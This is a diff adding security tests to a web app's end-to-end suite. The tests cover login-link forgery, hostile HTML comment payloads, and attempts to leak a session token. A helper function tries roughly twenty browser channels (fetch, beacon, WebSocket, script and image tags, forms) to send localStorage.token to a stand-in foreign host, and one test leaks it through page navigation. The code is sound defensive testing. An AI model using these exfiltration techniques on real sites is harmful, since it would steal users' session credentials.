@@ -1,19 +1,35 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { DEVELOPMENT_LOGIN_CODE_KEY } from '@gemas/domain';
+import { DEVELOPMENT_LOGIN_CODE_KEY, paths } from '@gemas/domain';
 import { encryptLoginCode } from '@gemas/mocks';
+import { ELSEWHERE, payloads } from '@gemas/mocks/payloads';
 import { expect, heading, test } from './harness.ts';
 
 const FERNANDA = '48213';
+/** Another key than that of the build. */
+const OTHER_KEY = 'ab'.repeat(32);
 
-/** Serves a page of another origin that frames an address and opens it. */
-async function servePage(html: string): Promise<{ origin: string; close(): void }> {
-  const server = createServer((_, outgoing) => {
+interface Foreign {
+  origin: string;
+  /** Addresses that it was asked for. */
+  asked: string[];
+  close(): void;
+}
+
+/** Serves a page at every address of another origin. */
+async function servePage(html: string): Promise<Foreign> {
+  const asked: string[] = [];
+  const server = createServer(({ url = '' }, outgoing) => {
+    asked.push(url);
     outgoing.writeHead(200, { 'Content-Type': 'text/html' }).end(html);
   });
   await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
   const { port } = server.address() as AddressInfo;
-  return { origin: `http://localhost:${port}`, close: () => server.close() };
+  const close = () => {
+    server.close();
+    server.closeAllConnections();
+  };
+  return { origin: `http://localhost:${port}`, asked, close };
 }
 
 test('a foreign page can neither frame the app nor reach into a window that it opens', async ({
@@ -42,5 +58,137 @@ test('a foreign page can neither frame the app nor reach into a window that it o
   expect(await opened.evaluate(() => window.opener)).toBeNull();
   foreign.close();
   // The browser reports the refused frame, as it should.
+  violations.length = 0;
+});
+
+test('whoever has the app can make a link, and nobody else', async ({ page, site, server }) => {
+  const made = await encryptLoginCode(FERNANDA, DEVELOPMENT_LOGIN_CODE_KEY);
+  const links = [
+    await encryptLoginCode(FERNANDA, OTHER_KEY),
+    made.slice(0, -2),
+    made.replace(/.$/, (digit) => (digit === '0' ? '1' : '0')),
+    FERNANDA,
+  ];
+  for (const code of links) {
+    await page.goto(`${site.address}?code=${code}`);
+    await expect(heading(page, /No pudimos abrir tu sesión/)).toBeVisible();
+    await page.goto('about:blank');
+  }
+  expect(await server.requests('POST', '/auth/login')).toEqual([]);
+  // The key is in the page, where everybody can read it (docs/security.md).
+  const [key = ''] = /\b[\da-f]{64}\b/.exec(await (await fetch(site.address)).text()) ?? [];
+  await page.goto(`${site.address}?code=${await encryptLoginCode(FERNANDA, key)}`);
+  await expect(heading(page, /Ávila/)).toBeVisible();
+});
+
+/** Payloads that one comment holds: as many comments as are rendered at once. payloads.spec.ts shows each by itself. */
+const OF_A_COMMENT = 30;
+
+test('a thread of every hostile comment runs nothing and asks no other host', async ({
+  page,
+  site,
+  enter,
+  violations,
+}) => {
+  const [ticket] = site.db.account(FERNANDA).state.tickets;
+  if (!ticket) throw new Error('Fernanda has no ticket');
+  ticket.title = payloads[0]?.[1] ?? '';
+  ticket.comments = [];
+  for (let at = 0; at < payloads.length; at += OF_A_COMMENT) {
+    const html = payloads.slice(at, at + OF_A_COMMENT).map(([, payload]) => payload);
+    ticket.comments.push({
+      user: html.join(''),
+      content: `<p>Comentario ${at}</p>${html.join('')}`,
+      time_ago: 'hoy',
+    });
+  }
+  const asked: string[] = [];
+  await page.route(`**://${ELSEWHERE}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ status: 204 });
+  });
+  await page.addInitScript(() => {
+    Object.defineProperty(window, 'pwned', {
+      set: () => Object.assign(window, { hasRun: true }),
+    });
+  });
+  await enter(FERNANDA, `#${paths.ticket(ticket.id)}`);
+  await expect(page.getByText(/^Comentario /)).toHaveCount(ticket.comments.length);
+  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
+  expect(asked).toEqual([]);
+  // The sanitiser parses html in a document of its own, in which the policy stops handlers and reports them.
+  violations.length = 0;
+});
+
+/** Sends the token to another host in every way that a page has without leaving. Runs in the page. */
+function sendToken(host: string): void {
+  const to = (way: string) => `${host}/${way}?${localStorage.token}`;
+  const add = (name: string, attributes: Record<string, string>) => {
+    const element = document.createElement(name);
+    for (const [key, value] of Object.entries(attributes)) {
+      try {
+        element.setAttribute(key, value);
+      } catch {
+        // Trusted Types refuse it.
+      }
+    }
+    document.body.append(element);
+    return element;
+  };
+  const ways: (() => unknown)[] = [
+    () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => undefined),
+    () => navigator.sendBeacon(to('beacon')),
+    () => {
+      const request = new XMLHttpRequest();
+      request.open('GET', to('xhr'));
+      request.send();
+    },
+    () => new EventSource(to('events')),
+    () => new WebSocket(to('socket').replace('http', 'ws')),
+    () => new Worker(to('worker')),
+    () => navigator.serviceWorker?.register(to('service-worker')).catch(() => undefined),
+    () => import(/* @vite-ignore */ to('import')).catch(() => undefined),
+    () => add('script', { src: to('script') }),
+    () => add('img', { src: to('img') }),
+    () => add('video', { src: to('video') }),
+    () => add('iframe', { src: to('iframe') }),
+    () => add('object', { data: to('object') }),
+    () => add('embed', { src: to('embed') }),
+    () => add('link', { rel: 'stylesheet', href: to('stylesheet') }),
+    () => add('link', { rel: 'prefetch', href: to('prefetch') }),
+    () => add('link', { rel: 'preload', as: 'fetch', href: to('preload') }),
+    () => add('link', { rel: 'manifest', href: to('manifest') }),
+    () => add('p', {}).style.setProperty('background', `url(${to('style')})`),
+    () => new FontFace('a', `url(${to('font')})`).load().catch(() => undefined),
+    () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
+  ];
+  for (const way of ways) {
+    try {
+      way();
+    } catch {
+      // The policy refuses it.
+    }
+  }
+}
+
+test('code in the app can send the token to no other host, unless it leaves the page', async ({
+  page,
+  enter,
+  violations,
+}) => {
+  const foreign = await servePage('<h1>Ajena</h1>');
+  await enter(FERNANDA);
+  await expect(heading(page, /Ávila/)).toBeVisible();
+  await page.evaluate(sendToken, foreign.origin);
+  // Whatever was sent has arrived before a page that is asked for later.
+  await expect.poll(() => violations.length).toBeGreaterThan(15);
+  const token = await page.evaluate(() => localStorage.token);
+  expect(foreign.asked).toEqual([]);
+  // No policy stops a page from being left (docs/security.md).
+  await page.evaluate((to) => window.location.assign(to), `${foreign.origin}/left?${token}`);
+  await expect(heading(page, 'Ajena')).toBeVisible();
+  expect(foreign.asked).toContain(`/left?${token}`);
+  expect(foreign.asked.filter((url) => url !== '/favicon.ico')).toHaveLength(1);
+  foreign.close();
   violations.length = 0;
 });
